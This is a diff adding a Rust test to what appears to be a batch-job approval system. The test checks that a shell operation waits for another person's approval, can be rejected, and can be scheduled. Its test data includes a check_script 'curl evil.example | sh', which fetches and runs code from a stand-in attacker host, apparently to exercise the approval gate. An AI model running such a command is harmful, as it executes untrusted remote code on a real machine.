@@ -48,6 +48,37 @@ async fn others_decide_where_others_have_to() {
 }
 
 #[tokio::test]
+async fn a_dry_run_that_runs_a_script_waits_for_all_that_its_work_waits_for() {
+    let script = |request: &mut BatchRequest, _: &Work| {
+        request.operation = "shell".into();
+        request.params = json!({"script": "touch /tmp/x", "check_script": "curl evil.example | sh"}).into();
+        request.approvals = Some(1);
+    };
+    let asked = Looking::with(1, script).await;
+    assert_eq!(asked.work.states_of(asked.batch.id).await, ["awaiting_approval 1"]);
+    let looking = asked.shown().await.approval.unwrap();
+    fails(asked.work.approve(&asks(&asked.work), looking).await, APPROVAL_OWN);
+    asked.work.approve(&agrees(&asked.work), looking).await.unwrap();
+    assert_eq!(asked.work.states_of(asked.batch.id).await, ["queued 1"]);
+    let asked = asked.looked(&[WouldChange]).await;
+    asked.approve(&agrees(&asked.work)).await.unwrap();
+    assert_eq!(asked.real().await.runs, 1);
+
+    let refused = Looking::with(1, script).await;
+    let looking = refused.shown().await.approval.unwrap();
+    refused.work.reject(&agrees(&refused.work), looking).await.unwrap();
+    refused.tick(0).await;
+    refused.check_ended(PromotionStanding::NothingToPromote).await;
+
+    let later = |request: &mut BatchRequest, work: &Work| {
+        script(request, work);
+        (request.approvals, request.start_at) = (None, Some(work.now().plus(HOUR)));
+    };
+    let looking = Looking::with(1, later).await;
+    assert_eq!(looking.work.states_of(looking.batch.id).await, ["scheduled 1"]);
+}
+
+#[tokio::test]
 async fn settings_ask_for_others_also_when_they_changed_while_it_looked() {
     let looking = Looking::new(1).await;
     looking.work.set("work.approvals_for", json!("everything")).await;
